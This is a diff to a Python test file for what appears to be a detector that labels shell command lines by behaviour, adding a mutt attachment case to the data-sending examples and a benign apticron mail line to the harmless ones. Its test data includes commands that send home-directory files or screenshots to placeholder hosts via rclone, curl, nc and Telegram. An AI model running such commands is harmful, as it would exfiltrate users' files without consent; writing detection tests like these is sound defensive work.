@@ -45,6 +45,7 @@ from audit.artifacts.signs import (
         ("/usr/bin/rclone --config x copy /home/a/Pictures gdrive:p", (SENDS,)),
         ("curl -s -T /home/a/x ftp://h.example/", (SENDS,)),
         ("curl -F document=@/home/a/x https://api.telegram.org/bot1/sendDocument", (SENDS,)),
+        ("echo x | mutt -s x -a /home/a/x.zip -- b@x.example", (SENDS,)),
         ("tar c /home/a | nc h.example 99", (SENDS,)),
         ("scrot x.png && curl -F f=@x.png https://h.example", (SCREEN, SENDS)),
     ],
@@ -71,6 +72,7 @@ def test_what_a_line_does(line: str, signs: tuple[str, ...]) -> None:
         "wget -q -O /home/a/list.txt https://example.org/list.txt",
         "ffmpeg -i a.mkv -f mp4 b.mp4",
         "/usr/lib/ssh-agent -D",
+        "apticron | mail -a 'Content-type: text/plain' -s Updates root",
     ],
 )
 def test_ordinary_lines_have_no_sign(line: str) -> None:
